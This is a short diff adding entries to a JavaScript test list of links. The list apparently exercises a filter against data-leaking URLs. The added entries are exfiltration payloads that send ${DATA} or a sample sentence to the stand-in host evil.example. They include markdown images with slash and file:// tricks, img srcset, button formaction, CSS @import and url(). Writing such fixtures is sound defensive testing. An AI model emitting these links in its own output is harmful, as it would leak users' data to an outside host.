@@ -95,6 +95,13 @@ const LINKS = [
   `<a class="x" href="https://evil.example/p.png?${DATA}">`,
   `<img/srcset="https://evil.example/p.png?${DATA}">`,
   `https://evil.example/p/${inBase64('she lives in a small town')}`,
+  `![a](https:\\\\evil.example/p.png?${DATA})`,
+  `![a](file://evil.example/p.png?${DATA})`,
+  `<img src="https://evil.example/p.png?q=she lives in a small town, and so does her sister">`,
+  `<img src="https://a.example/" srcset="//evil.example/p.png?${DATA}">`,
+  `<button formaction=/\\evil.example/p.png?${DATA}>`,
+  `@import 'https://evil.example/p.png?${DATA}'`,
+  `url(//evil.example/p.png?${DATA})`,
 ];
 const REFERENCE = `[logo]: https://evil.example/p.png?${DATA}`;
 
